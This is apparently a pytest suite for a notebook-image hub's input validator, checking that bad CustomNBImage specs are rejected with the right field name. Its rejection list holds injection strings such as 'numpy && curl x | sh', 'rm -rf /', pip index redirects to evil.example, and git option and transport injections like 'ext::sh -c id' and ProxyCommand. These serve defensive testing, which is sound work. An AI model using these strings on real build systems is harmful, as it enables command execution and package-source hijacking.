import copy
"""Validation of CustomNBImage input: every rule fails with a message naming the field."""


import pytest

from cnbi_hub import model
from cnbi_hub.model import InvalidObject, ValidationPolicy, validate_new_object

BASE = "quay.io/thoth-station/s2i-minimal-py38-notebook:v0.2.2"


def package_list(*packages, **spec):
    return {"spec": {"buildType": "PackageList", "baseImage": BASE, "packageVersions": list(packages), **spec}}


def test_meteor_sample_object_is_accepted_as_is():
    # The shape of meteor-operator's config/samples CustomNBImage (PackageList with runtimeEnvironment)
    sample = {
        "apiVersion": "meteor.zone/v1alpha1",
        "kind": "CustomNBImage",
        "metadata": {
            "name": "ubi9-py39-sample-3",
            "annotations": {
                "opendatahub.io/notebook-image-name": "Sample 3: a UBI9 py39 based image",
                "opendatahub.io/notebook-image-desc": "minimal python runtime with a few packages",
                "opendatahub.io/notebook-image-creator": "codificat",
            },
        },
        "spec": {
            "buildType": "PackageList",
            "runtimeEnvironment": {"osName": "ubi", "osVersion": "9", "pythonVersion": "3.9"},
            "packageVersions": ["pandas", "scikit-learn==1.1.1", "boto3>=1.24.0"],
        },
    }
    obj = validate_new_object(sample, creator="alice")
    assert obj["metadata"]["name"] == "ubi9-py39-sample-3"
    assert obj["spec"] == sample["spec"]
    # the creator is the authenticated user, whatever the body said
    assert obj["metadata"]["annotations"][model.ANNOTATION_CREATOR] == "alice"
    assert obj["metadata"]["labels"][model.LABEL_OWNER] == "alice"


def test_import_sample_is_accepted():
    obj = validate_new_object(
        {"spec": {"buildType": "ImageImport", "fromImage": "quay.io/thoth-station/s2i-minimal-py38-notebook:v0.2.2"}},
        creator="bob",
    )
    assert obj["apiVersion"] == model.API_VERSION and obj["kind"] == model.KIND
    assert "name" not in obj["metadata"]  # generated at create time


BAD = [
    ({"spec": {"buildType": "Magic"}}, "spec.buildType"),
    ({"spec": {}}, "spec.buildType"),
    ({}, "spec"),
    ({"spec": {"buildType": "ImageImport"}}, "spec.fromImage"),
    ({"spec": {"buildType": "ImageImport", "fromImage": "UPPER/Case"}}, "spec.fromImage"),
    ({"spec": {"buildType": "ImageImport", "fromImage": "a;rm -rf /"}}, "spec.fromImage"),
    ({"spec": {"buildType": "PackageList", "baseImage": BASE}}, "spec.packageVersions"),
    ({"spec": {"buildType": "PackageList", "baseImage": BASE, "packageVersions": []}}, "spec.packageVersions"),
    ({"spec": {"buildType": "PackageList", "packageVersions": ["six"]}}, "spec.baseImage"),
    (package_list("six", runtimeEnvironment={"pythonVersion": "3.11"}), "spec.baseImage"),
    (package_list("six", "-e git+https://x/y"), "spec.packageVersions[1]"),
    (package_list("-r requirements.txt"), "spec.packageVersions[0]"),
    (package_list("--index-url https://evil.example/simple"), "spec.packageVersions[0]"),
    (package_list("--extra-index-url=https://evil.example/simple"), "spec.packageVersions[0]"),
    (package_list("numpy; rm -rf /"), "spec.packageVersions[0]"),
    (package_list("numpy && curl x | sh"), "spec.packageVersions[0]"),
    (package_list("$(reboot)"), "spec.packageVersions[0]"),
    (package_list("`id`"), "spec.packageVersions[0]"),
    (package_list("./local/dir"), "spec.packageVersions[0]"),
    (package_list("/abs/path.whl"), "spec.packageVersions[0]"),
    (package_list("pkg @ https://example.org/pkg.whl"), "spec.packageVersions[0]"),
    (package_list("six", "Six>=1"), "spec.packageVersions[1]"),
    (package_list(""), "spec.packageVersions[0]"),
    (package_list(*[f"pkg{i}" for i in range(201)]), "spec.packageVersions"),
    (package_list(42), "spec.packageVersions[0]"),
    (package_list("six", unknownField=1), "spec.unknownField"),
    ({"spec": {"buildType": "GitRepository"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "ssh://git@host/repo"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "file:///etc"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "-uhttps://x"}}, "spec.repository"),
    # argument and transport injection, as in BinderHub's CVE-2021-39159 and git's CVE-2017-1000117
    ({"spec": {"buildType": "GitRepository", "repository": "ext::sh -c id"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "ext::sh%20-c%20id"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "--upload-pack=touch%20/tmp/x"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "-c core.sshCommand=id"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "ssh://-oProxyCommand=id/x"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "file:///home/jovyan/.ssh"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "https://h/r\x08"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "https://h/r\u202e"}}, "spec.repository"),
    ({"spec": {"buildType": "GitRepository", "repository": "https://h/r", "gitRef": "-c core.sshCommand=id"}},
     "spec.gitRef"),
    ({"spec": {"buildType": "GitRepository", "repository": "https://h/r", "gitRef": "--output=/tmp/x"}},
     "spec.gitRef"),
    ({"spec": {"buildType": "GitRepository", "repository": "https://h/r", "gitRef": "main\n--upload-pack=x"}},
     "spec.gitRef"),
    ({"spec": {"buildType": "GitRepository", "repository": "https://h/r", "gitRef": "--upload-pack=x"}}, "spec.gitRef"),
    ({"spec": {"buildType": "GitRepository", "repository": "https://h/r", "gitRef": "a..b"}}, "spec.gitRef"),
    ({"spec": {"buildType": "GitRepository", "repository": "https://h/r", "packageVersions": ["six"]}},
     "spec.packageVersions"),
    ({"metadata": {"name": "Ünïcode"}, **package_list("six")}, "metadata.name"),
    ({"metadata": {"name": "UPPER"}, **package_list("six")}, "metadata.name"),
    ({"metadata": {"name": "x" * 64}, **package_list("six")}, "metadata.name"),
    ({"metadata": {"bogus": 1}, **package_list("six")}, "metadata.bogus"),
    ({"apiVersion": "v1", **package_list("six")}, "apiVersion"),
    ({"kind": "Pod", **package_list("six")}, "kind"),
    ({"extra": 1, **package_list("six")}, "extra"),
    ({"metadata": {"annotations": {model.ANNOTATION_DISPLAY_NAME: "x" * 300}}, **package_list("six")},
     f"metadata.annotations[{model.ANNOTATION_DISPLAY_NAME}]"),
]


@pytest.mark.parametrize("body,field", BAD, ids=[f"{i}-{f}" for i, (_, f) in enumerate(BAD)])
def test_bad_input_names_the_field(body, field):
    with pytest.raises(InvalidObject) as info:
        validate_new_object(body, creator="alice")
    assert info.value.field == field, info.value.message
    assert info.value.message


def test_admin_policy_widens_what_is_allowed():
    policy = ValidationPolicy(allowed_git_schemes=("https", "git"), allow_package_urls=True)
    validate_new_object(package_list("pkg @ https://example.org/pkg.whl"), creator="a", policy=policy)
    validate_new_object({"spec": {"buildType": "GitRepository", "repository": "git://127.0.0.1/r.git"}},
                        creator="a", policy=policy)


def test_status_and_server_metadata_are_dropped():
    body = {"metadata": {"uid": "forged", "resourceVersion": "99"}, "status": {"phase": "Ready"}, **package_list("six")}
    obj = validate_new_object(body, creator="a")
    assert "status" not in obj and "uid" not in obj["metadata"]


def test_shared_annotation_cannot_be_self_granted():
    body = {"metadata": {"annotations": {model.ANNOTATION_SHARED: "true"}}, **package_list("six")}
    assert not model.is_shared(validate_new_object(body, creator="a"))


def test_generated_names_are_dns_labels_and_avoid_taken_ones():
    taken = set()
    for display in ["Mein Bild für Ünïcode-Daten!", "", "数据科学", "x" * 300, "--weird--"]:
        name = model.generate_name(display, taken=taken.__contains__)
        assert model.check_dns_label(name) == name
        assert name not in taken
        taken.add(name)
    assert model.generate_name("Mein Bild für Ünïcode").startswith("mein-bild-fur-unicode-")


def test_crd_schema_and_python_rules_agree_on_fields():
    crd = model.load_crd()
    version = crd["spec"]["versions"][0]
    assert crd["spec"]["names"]["shortNames"] == ["cnbi"]
    assert version["subresources"] == {"status": {}}
    assert [c["name"] for c in version["additionalPrinterColumns"]] == ["Phase", "Type", "Age"]
    spec_props = version["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"]
    assert set(spec_props) == {"buildType", "fromImage", "baseImage", "packageVersions", "runtimeEnvironment",
                               "repository", "gitRef", "gitCredential", "imagePullSecret", "rebuildSchedule"}
    rules = version["schema"]["openAPIV3Schema"]["properties"]["spec"]["x-kubernetes-validations"]
    assert len(rules) == 5


def test_set_condition_keeps_transition_time_when_status_unchanged():
    status = model.set_condition({}, model.Condition("Prepared", "True", "Ok", lastTransitionTime="t1"))
    status = model.set_condition(status, model.Condition("Prepared", "True", "Ok2", lastTransitionTime="t2"))
    assert status["conditions"] == [
        {"type": "Prepared", "status": "True", "reason": "Ok2", "message": "", "lastTransitionTime": "t1"}
    ]
    status = model.set_condition(status, model.Condition("Prepared", "False", "Bad", lastTransitionTime="t3"))
    assert status["conditions"][0]["lastTransitionTime"] == "t3"


def test_set_condition_leaves_the_status_it_was_given_as_it_was():
    # the copy is shallow (status holds kB of package lists): the given status must not change
    given = {"phase": "Pending", "packages": [{"name": "numpy"}],
             "conditions": [{"type": "Prepared", "status": "True", "reason": "Ok", "lastTransitionTime": "t1"}]}
    before = copy.deepcopy(given)
    new = model.set_condition(given, model.Condition("Prepared", "False", "Bad", lastTransitionTime="t2"))
    new = model.set_condition(new, model.Condition("Resolved", "True", "Ok", lastTransitionTime="t2"))
    assert given == before
    assert [c["type"] for c in new["conditions"]] == ["Prepared", "Resolved"]
    assert new["conditions"][0]["status"] == "False"
